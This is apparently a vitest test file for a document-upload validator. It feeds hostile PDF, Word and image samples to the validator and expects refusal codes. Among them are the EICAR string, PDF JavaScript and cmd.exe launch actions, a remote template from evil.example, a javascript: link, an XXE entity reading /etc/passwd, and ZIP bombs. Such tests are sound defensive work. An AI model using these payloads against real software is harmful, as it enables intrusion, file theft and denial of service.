import { deflateSync } from 'node:zlib';
import type { FileKind } from '@diwan/api-contract/values/file';
import sharp from 'sharp';
import { expect, test } from 'vitest';
import {
  contentTypes,
  doc,
  docx,
  objectStream,
  pdf,
  relations,
  stream,
  wordText,
  zip,
} from '../samples/test-documents.ts';
import { judged } from '../samples/test-judging.ts';

type Content = Buffer | Promise<Buffer>;

const eicar = Buffer.from('X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*');
const html = Buffer.from('<!doctype html><script>alert(1)</script>');
const rels = 'word/_rels/document.xml.rels';
const picture = (width = 40, height = 20) =>
  sharp({ create: { width, height, channels: 3, background: { r: 20, g: 120, b: 80 } } });
const hugePng = () => {
  const header = Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex');
  const size = Buffer.alloc(17);
  size.writeUInt32BE(50_000, 0);
  size.writeUInt32BE(50_000, 4);
  size.writeUInt8(8, 8);
  size.writeUInt8(2, 9);
  const data = deflateSync(Buffer.alloc(100));
  const idat = Buffer.concat([Buffer.alloc(4), Buffer.from('IDAT'), data, Buffer.alloc(4)]);
  idat.writeUInt32BE(data.length, 0);
  return Buffer.concat([header, size, idat]);
};
const truncated = async (content: Content) => {
  const bytes = await content;
  return bytes.subarray(0, Math.floor(bytes.length / 2));
};
const both = async (first: Content, second: Content) => Buffer.concat([await first, await second]);
const page = '/Type /Page';

const hostile: [what: string, kind: FileKind, content: () => Content, code: string][] = [
  ['a virus test file', 'pdf', () => eicar, 'fileMismatch'],
  ['HTML', 'pdf', () => html, 'fileMismatch'],
  ['nothing but a header', 'pdf', () => Buffer.from('%PDF-1.7\n'), 'fileDamaged'],
  ['half a PDF', 'pdf', () => truncated(pdf()), 'fileDamaged'],
  ['HTML before the PDF', 'pdf', () => both(html, pdf()), 'fileMismatch'],
  ['HTML in a comment of the PDF', 'pdf', () => pdf({ head: `%PDF-1.7\n%${html}\n` }), 'fileMismatch'],
  ['HTML after the PDF', 'pdf', () => both(pdf(), html), 'fileMismatch'],
  ['a ZIP after the PDF', 'pdf', () => both(pdf(), docx()), 'fileMismatch'],
  ['an MHT in a PDF', 'pdf', () => pdf({ head: '%PDF-1.7\nMIME-Version: 1.0\n' }), 'fileMismatch'],
  ['an encrypted PDF', 'pdf', () => pdf({ trailer: '/Encrypt 8 0 R' }), 'fileEncrypted'],
  [
    'a script',
    'pdf',
    () => pdf({ objects: ['8 0 obj << /S /JavaScript /JS (app.alert(1)) >> endobj\n'] }),
    'fileActive',
  ],
  [
    'a script, spelt in figures',
    'pdf',
    () => pdf({ objects: ['8 0 obj << /S /J#61vaScript >> endobj\n'] }),
    'fileActive',
  ],
  ['a script by reference', 'pdf', () => pdf({ objects: ['8 0 obj << /JS 9 0 R >> endobj\n'] }), 'fileActive'],
  [
    'a script in an object stream',
    'pdf',
    () => pdf({ objects: [objectStream('<< /S /JavaScript /JS (x) >>')] }),
    'fileActive',
  ],
  [
    'a hidden program in an object stream',
    'pdf',
    () => pdf({ objects: [objectStream('<< /S /L#61unch /F (cmd.exe) >>')] }),
    'fileActive',
  ],
  [
    'an object stream nobody can read',
    'pdf',
    () => pdf({ objects: [objectStream('<< >>', '/Filter [/ASCIIHexDecode /FlateDecode]')] }),
    'fileDamaged',
  ],
  [
    'an object stream that unpacks without end',
    'pdf',
    () =>
      pdf({ objects: [stream(deflateSync(Buffer.alloc(80_000_000)), '/Type /ObjStm /First 5 /Filter /FlateDecode')] }),
    'fileDamaged',
  ],
  ['a million streams', 'pdf', () => pdf({ objects: ['stream\n'.repeat(1_000_000)] }), 'fileDamaged'],
  [
    'a program to launch',
    'pdf',
    () => pdf({ objects: ['8 0 obj << /S /Launch /F (cmd.exe) >> endobj\n'] }),
    'fileActive',
  ],
  ['an embedded file', 'pdf', () => pdf({ objects: ['8 0 obj << /Type /EmbeddedFile >> endobj\n'] }), 'fileActive'],
  ['a form that sends itself', 'pdf', () => pdf({ page: '/AA << /O << /S /SubmitForm >> >>' }), 'fileActive'],
  [
    '201 pages',
    'pdf',
    () => pdf({ objects: Array.from({ length: 200 }, (_, index) => `${index + 8} 0 obj << ${page} >> endobj\n`) }),
    'fileTooManyPages',
  ],
  ['a PDF named as Word', 'docx', () => pdf(), 'fileMismatch'],
  ['any ZIP', 'docx', () => zip([['a.txt', 'a']]), 'fileMismatch'],
  ['half a Word document', 'docx', () => truncated(docx()), 'fileDamaged'],
  ['a PDF before the archive', 'docx', () => both(pdf(), docx()), 'fileMismatch'],
  [
    'a spreadsheet',
    'docx',
    () =>
      docx({
        '[Content_Types].xml': contentTypes(
          'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml',
        ),
      }),
    'fileMismatch',
  ],
  [
    'a document with macros',
    'docx',
    () => docx({ '[Content_Types].xml': contentTypes('application/vnd.ms-word.document.macroEnabled.main+xml') }),
    'fileActive',
  ],
  ['macros under a plain type', 'docx', () => docx({ 'word/vbaProject.bin': 'x' }), 'fileActive'],
  ['an ActiveX control', 'docx', () => docx({ 'word/activeX/activeX1.xml': '<a/>' }), 'fileActive'],
  ['an embedded program', 'docx', () => docx({ 'word/embeddings/oleObject1.bin': 'x' }), 'fileActive'],
  [
    'a template from elsewhere',
    'docx',
    () => docx({ [rels]: relations('attachedTemplate', 'https://evil.example/t.dotm') }),
    'fileActive',
  ],
  [
    'a picture from elsewhere',
    'docx',
    () => docx({ [rels]: relations('image', 'https://evil.example/pixel.png') }),
    'fileActive',
  ],
  [
    'the same, spelt in figures',
    'docx',
    () => docx({ [rels]: relations('image', 'https://evil.example/p.png', 'TargetMode="&#69;xternal"') }),
    'fileActive',
  ],
  [
    'a link that runs a script',
    'docx',
    () => docx({ [rels]: relations('hyperlink', 'javascript:alert(1)') }),
    'fileActive',
  ],
  [
    'a link into the local network',
    'docx',
    () => docx({ [rels]: relations('hyperlink', 'file://///evil/share') }),
    'fileActive',
  ],
  [
    'an entity from elsewhere',
    'docx',
    () => docx({ 'word/document.xml': wordText('&e;', '<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]>') }),
    'fileActive',
  ],
  [
    'XML in another encoding',
    'docx',
    () => docx({ 'word/document.xml': Buffer.from(`\ufeff${wordText()}`, 'utf16le') }),
    'fileDamaged',
  ],
  ['a ZIP bomb', 'docx', () => docx({ 'word/document.xml': Buffer.alloc(20_000_000, 0x20) }), 'fileDamaged'],
  [
    '2,001 entries',
    'docx',
    () => docx(Object.fromEntries(Array.from({ length: 2000 }, (_, index) => [`word/${index}.txt`, '']))),
    'fileDamaged',
  ],
  ['an old document with macros', 'doc', () => doc(['WordDocument', 'Macros']), 'fileActive'],
  ['an old document with a program', 'doc', () => doc(['WordDocument', '\u0001Ole10Native']), 'fileActive'],
  ['an old spreadsheet', 'doc', () => doc(['Workbook']), 'fileMismatch'],
  ['an old document with a password', 'doc', () => doc(['WordDocument'], 0x0100), 'fileEncrypted'],
  ['a new document with a password', 'doc', () => doc(['EncryptionInfo', 'EncryptedPackage']), 'fileEncrypted'],
  ['eight bytes of an old document', 'doc', () => doc().subarray(0, 8), 'fileDamaged'],
  [
    'an old document that leads in a circle',
    'doc',
    () => {
      const file = doc();
      for (let sector = 1; sector < 12; sector++) file.writeUInt32LE(sector, 512 + sector * 4);
      return file;
    },
    'fileDamaged',
  ],
  ['HTML', 'png', () => html, 'fileMismatch'],
  ['SVG', 'png', () => Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'), 'fileMismatch'],
  ['a JPEG named PNG', 'png', () => picture().jpeg().toBuffer(), 'fileMismatch'],
  ['half a JPEG', 'jpeg', () => truncated(picture(400, 400).jpeg().toBuffer()), 'fileDamaged'],
  ['a header alone', 'png', () => Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex'), 'fileDamaged'],
  ['50,000 by 50,000 pixels', 'png', hugePng, 'fileTooManyPixels'],
];

const good: [what: string, kind: FileKind, content: () => Content][] = [
  ['a plain PDF', 'pdf', () => pdf()],
  [
    'a PDF 2.0 that ends with spaces',
    'pdf',
    () => pdf({ head: '%PDF-2.0\r\n%\xe2\xe3\xcf\xd3\r\n', tail: '%%EOF\r\n\0\0' }),
  ],
  [
    'a PDF with an object stream',
    'pdf',
    () => pdf({ objects: [objectStream('<< /Type /Font /BaseFont /Helvetica >>')] }),
  ],
  [
    'a PDF that tells of HTML/CSS/JS',
    'pdf',
    () => pdf({ objects: [stream('BT (HTML/CSS/JS, Node) Tj ET', '/Length 29')] }),
  ],
  ['a PDF with links', 'pdf', () => pdf({ page: '/Annots [<< /A << /S /URI /URI (https://example.com) >> >>]' })],
  ['a PDF that was changed once', 'pdf', () => both(pdf(), pdf({ head: '' }))],
  ['a Word document', 'docx', () => docx()],
  ['a Word document with an address', 'docx', () => docx({ [rels]: relations('hyperlink', 'mailto:a@example.com') })],
  [
    'a Word document with an own picture',
    'docx',
    () => docx({ [rels]: relations('image', 'media/1.png', ''), 'word/media/1.png': 'x' }),
  ],
  ['an old Word document', 'doc', () => doc()],
  ['a JPEG', 'jpeg', () => picture().jpeg().toBuffer()],
  ['a PNG', 'png', () => picture().png().toBuffer()],
  ['a WebP', 'webp', () => picture().webp().toBuffer()],
];

test.each(hostile)('T39 DOM-07 refused: %s as %s', async (_, kind, content, code) => {
  const outcome = judged(await content(), kind);
  await expect(outcome).rejects.toMatchObject({ status: 422, extra: { errors: [{ path: 'file', code }] } });
});

test.each(good)('T39 DOM-07 taken: %s (%s)', async (_, kind, content) => {
  await expect(judged(await content(), kind)).resolves.toBeDefined();
});

test.each(['jpeg', 'webp', 'png'] as const)('T43 a %s keeps its pixels and nothing else, upright', async (kind) => {
  const tagged = await picture()
    .withExif({ IFD0: { Artist: 'Somebody' }, IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '24/1 42/1 0/1' } })
    .withMetadata({ orientation: 6 })
    .toFormat(kind)
    .toBuffer();
  expect((await sharp(tagged).metadata()).exif).toBeDefined();
  const remade = (await judged(Buffer.concat([tagged, html]), kind))!;
  const { exif, xmp, iptc, icc, orientation, width, height } = await sharp(remade).metadata();
  expect([exif, xmp, iptc, icc, orientation]).toEqual([undefined, undefined, undefined, undefined, undefined]);
  expect([width, height]).toEqual([20, 40]);
  expect(remade.includes('<script>')).toBe(false);
});
